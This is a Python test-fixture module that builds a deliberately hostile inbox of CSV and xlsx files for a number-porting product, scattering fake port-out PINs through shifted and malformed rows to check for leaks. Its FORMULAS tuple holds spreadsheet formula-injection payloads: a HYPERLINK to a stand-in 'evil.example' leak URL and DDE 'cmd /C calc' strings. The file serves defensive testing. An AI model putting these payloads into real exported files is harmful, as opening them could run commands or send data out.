"""A hostile inbox and precheck sheet: PINs hidden everywhere a real drop hides them, and text
that a spreadsheet would run as a formula, in every field that reaches a workbook.

Every PIN is distinct and sits in one place only, so a leak names the way it took. The files are
real CSV and xlsx files read by the product's own readers.
"""

from __future__ import annotations

from pathlib import Path

from inbox_builders import (
    CSR_HEADER,
    EVENT_HEADER,
    LOA_HEADER,
    csr_row,
    event_row,
    loa_row,
    write_csv,
    write_xlsx,
)

# Where each PIN hides -> the PIN as typed (digits, a lost leading zero, letters).
PINS: dict[str, str] = {
    "CSR good row": "73519468",
    "CSR xlsx number cell that lost its leading zero": "048213",
    "CSR xlsx float cell": "551829",
    "CSR row quarantined for its tn": "58204716",
    "CSR row quarantined for an empty account number (letters)": "Kx7Q9z",
    "CSR extra column 'Passcode'": "66130592",
    "CSR extra column 'Account PIN' in a bad row": "A9B8C7",
    "CSR CSV row shifted right by an unquoted comma": "39460185",
    "CSR CSV row shifted left by a missing field": "20583947",
    "CSR CSV row shifted right, PIN of letters": "Zp4R8w",
    "CSR xlsx row shifted left by a deleted cell (PIN under tn)": "84736251",
    "CSR file without its header row, first row": "61728394",
    "CSR file without its header row, second row": "50417263",
    "CSR file missing a required column": "93017452",
    "LOA good row": "27384950",
    "LOA row quarantined for its signed date": "38495061",
    "CSR tn cell holding a PIN (its error message quotes the value)": "36925814",
    "LOA xlsx row shifted right by an inserted cell": "47261038",
    "LOA signed date holding a PIN (its error message quotes the value)": "25814736",
    "LOA column 'Port-Out PIN'": "72910384",
    "Order events extra column 'Port PIN'": "19283746",
    "Precheck sheet 'Passcode' column": "30492817",
    "Precheck sheet row shifted so its PIN stands under Signed Date": "82736450",
    "Precheck sheet row with an unreadable number": "64019283",
    "Precheck sheet 'Old PIN' column": "P4ss9Q",
}
PRECHECK_PINS = {where: pin for where, pin in PINS.items() if where.startswith("Precheck")}
NIGHTLY_PINS = {where: pin for where, pin in PINS.items() if where not in PRECHECK_PINS}

# Text a spreadsheet runs as a formula: every trigger, also after leading white space.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak","open")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =2+2",
)
HOSTILE_CARRIER, PLUS, MINUS, AT, TAB, CR, SPACED = FORMULAS
HOSTILE_FOLDER = "=folder"


def _pin(where: str) -> dict[str, str]:
    return {"pin": PINS[where]}


def _with(row: list[str], header: list[str], **values: str) -> list[str]:
    return [values.get(name, value) for name, value in zip(header, row, strict=True)]


def _csr_csv(inbox: Path) -> None:
    header = [*CSR_HEADER, "Passcode", "Account PIN", "Notes"]

    def row(tn: str, extra: tuple[str, str, str] = ("", "", ""), **overrides: str) -> list[str]:
        return [*csr_row(tn=tn, **overrides), *extra]

    shifted_right = row("2175550103", **_pin("CSR CSV row shifted right by an unquoted comma"))
    shifted_right[2:3] = ["ACME", " INC"]  # `ACME, INC` written without quotes
    shifted_left = row("2175550104", **_pin("CSR CSV row shifted left by a missing field"))
    del shifted_left[4]  # service_address_2 and its comma lost
    letters = row("2175550105", **_pin("CSR CSV row shifted right, PIN of letters"))
    letters[3:4] = ["123 N Main St", " Ste 4"]
    write_csv(
        inbox / "csr" / "csr_acme.csv",
        header,
        [
            row(
                "2175550100",
                (PINS["CSR extra column 'Passcode'"], "", PLUS),
                account_name=AT,
                **_pin("CSR good row"),
            ),
            row("2175550101", **_pin("CSR good row")),
            row("TBD", **_pin("CSR row quarantined for its tn")),
            row(PINS["CSR tn cell holding a PIN (its error message quotes the value)"], pin=""),
            row(
                "2175550102",
                ("", PINS["CSR extra column 'Account PIN' in a bad row"], MINUS),
                account_number="",
                **_pin("CSR row quarantined for an empty account number (letters)"),
            ),
            shifted_right,
            shifted_left,
            letters,
            row("4155550100", carrier=HOSTILE_CARRIER, account_number="H1", account_name=TAB),
        ],
    )


def _csr_xlsx(inbox: Path) -> None:
    deleted_cell = csr_row(
        tn="2175550107", **_pin("CSR xlsx row shifted left by a deleted cell (PIN under tn)")
    )
    del deleted_cell[4]
    write_xlsx(
        inbox / "csr" / "csr_export.xlsx",
        CSR_HEADER,
        [
            _with(
                csr_row(tn="2175550106"),
                CSR_HEADER,
                pin=int(PINS["CSR xlsx number cell that lost its leading zero"]),
            ),
            _with(
                csr_row(tn="2175550108", account_number="000124"),
                CSR_HEADER,
                pin=float(PINS["CSR xlsx float cell"]),
            ),
            deleted_cell,
        ],
    )


def _csr_broken_files(inbox: Path) -> None:
    first, second = (
        PINS["CSR file without its header row, first row"],
        PINS["CSR file without its header row, second row"],
    )
    headerless = inbox / "csr" / "csr_no_header.csv"
    write_csv(
        headerless, csr_row(tn="6125550100", pin=first), [csr_row(tn="6125550101", pin=second)]
    )
    missing = [c for c in CSR_HEADER if c != "csr_date"]
    row = csr_row(tn="6125550102", pin=PINS["CSR file missing a required column"])
    write_csv(
        inbox / HOSTILE_FOLDER / "csr_missing_date.csv",
        missing,
        [[value for name, value in zip(CSR_HEADER, row, strict=True) if name != "csr_date"]],
    )


def _loas(inbox: Path) -> None:
    write_csv(
        inbox / "loa" / "loa_intake.csv",
        LOA_HEADER,
        [
            loa_row(end_user_name=MINUS, authorized_signer=SPACED, **_pin("LOA good row")),
            loa_row(
                loa_id="LOA2",
                order_id="PI2",
                signed_date="31.12.2026",
                **_pin("LOA row quarantined for its signed date"),
            ),
            loa_row(
                loa_id="LOA3",
                order_id=PLUS,
                losing_carrier=HOSTILE_CARRIER,
                account_number="H1",
                end_user_name=TAB,
                btn="4155550100",
                tns="4155550100",
            ),
        ],
    )
    inserted_cell = loa_row(
        loa_id="LOA4", order_id="PI4", **_pin("LOA xlsx row shifted right by an inserted cell")
    )
    inserted_cell.insert(8, "Floor 2")  # a second unit cell: the PIN moves under btn
    write_xlsx(
        inbox / "loa" / "loa_batch.xlsx",
        LOA_HEADER,
        [
            inserted_cell,
            loa_row(loa_id="LOA6", order_id="PI6", end_user_name=CR, tns="2175550109"),
            loa_row(
                loa_id="LOA7",
                order_id="PI7",
                tns="2175550109",
                signed_date=PINS[
                    "LOA signed date holding a PIN (its error message quotes the value)"
                ],
            ),
        ],
    )
    renamed = ["Port-Out PIN" if c == "pin" else c for c in LOA_HEADER]
    write_csv(
        inbox / "loa" / "loa_portal.csv",
        renamed,
        [loa_row(loa_id="LOA5", order_id="PI5", **_pin("LOA column 'Port-Out PIN'"))],
    )


def _orders(inbox: Path) -> None:
    header = [*EVENT_HEADER, "Port PIN"]
    pin = PINS["Order events extra column 'Port PIN'"]
    write_csv(
        inbox / "orders" / "order_events.csv",
        header,
        [
            [*event_row(), pin],
            [*event_row(status="rejected", event_time="2026-10-22 09:00:00", reason=AT), ""],
            [*event_row(order_id=PLUS, carrier=HOSTILE_CARRIER, tn_count="1"), ""],
            [
                *event_row(
                    order_id=PLUS,
                    carrier=HOSTILE_CARRIER,
                    status="rejected",
                    event_time="2026-10-21 09:00:00",
                    reason=HOSTILE_CARRIER,
                ),
                "",
            ],
            [
                *event_row(
                    order_id=MINUS,
                    direction="port_out",
                    carrier=TAB,
                    status="approved",
                    event_time="2026-11-10 09:00:00",
                    foc_date="2026-11-12",
                ),
                "",
            ],
        ],
    )


def build_inbox(root: Path) -> Path:
    """The hostile inbox below root/inbox: CSRs (CSV, xlsx, headerless, missing a column in a
    folder named like a formula), LOAs (CSV, shifted xlsx, a renamed PIN column), order events."""
    inbox = root / "inbox"
    _csr_csv(inbox)
    _csr_xlsx(inbox)
    _csr_broken_files(inbox)
    _loas(inbox)
    _orders(inbox)
    return inbox


PRECHECK_HEADER = [
    "Losing Carrier",
    "End User Name",
    "Account Number",
    "Passcode",
    "TN",
    "Signed Date",
    "Old PIN",
    "=HEADER()",
]


def build_precheck_sheet(path: Path, number_header: str = "TN") -> Path:
    """A bulk-port sheet over the hostile inbox's Acme account: PINs in the Passcode column and an
    extra secret column, a row shifted so its PIN stands under Signed Date, an unreadable number;
    formulas in its text, its header and cells with leading white space. Another number_header
    makes a sheet precheck cannot use (no tn column)."""
    pins = PRECHECK_PINS
    shifted = pins["Precheck sheet row shifted so its PIN stands under Signed Date"]
    rows: list[list[object]] = [
        [
            "Acme Telecom",
            "Acme Inc",
            "000123",
            pins["Precheck sheet 'Passcode' column"],
            "2175550100",
        ],
        [
            "Acme Telecom",
            SPACED,
            "000123",
            "",
            "2175550101",
            "",
            pins["Precheck sheet 'Old PIN' column"],
        ],
        ["Acme Telecom", "Acme Inc", "000123", "", "2175550102", shifted],
        [AT, TAB, "000123", pins["Precheck sheet row with an unreadable number"], "n/a"],
        [HOSTILE_CARRIER, "  +1+1", "-5", "", "2175550103", "", "", SPACED],
    ]
    header = [number_header if name == "TN" else name for name in PRECHECK_HEADER]
    return write_xlsx(path, header, rows)
